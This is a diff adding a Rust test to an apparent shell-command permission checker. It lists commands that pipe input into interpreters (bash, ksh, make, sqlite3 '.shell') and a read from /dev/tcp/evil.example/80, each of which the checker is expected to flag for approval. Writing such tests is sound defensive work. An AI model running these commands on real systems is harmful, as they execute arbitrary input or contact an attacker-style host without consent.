@@ -259,6 +259,24 @@ fn programs_that_find_runs_are_judged_with_a_path_in_the_workspace() {
     }
 }
 
+/// What a program reads from its input can be code, too.
+#[test]
+fn programs_that_run_their_input_are_asked_about() {
+    for text in [
+        "echo '.shell id' | sqlite3 -readonly a.db",
+        "echo 'all:; id' | make -f -",
+        "echo /tmp/x.t | prove -",
+        "echo id | ksh -v",
+        "cat < /dev/tcp/evil.example/80",
+        "echo id | bash",
+        "python3 <<'E'\nprint(1)\nE\n",
+    ] {
+        asks(text);
+    }
+    allows("sqlite3 -readonly a.db 'select 1'");
+    allows("cat a | shellcheck -");
+}
+
 /// `zsh` evaluates numbers as expressions.
 #[test]
 fn numbers_that_a_shell_evaluates_are_plain() {
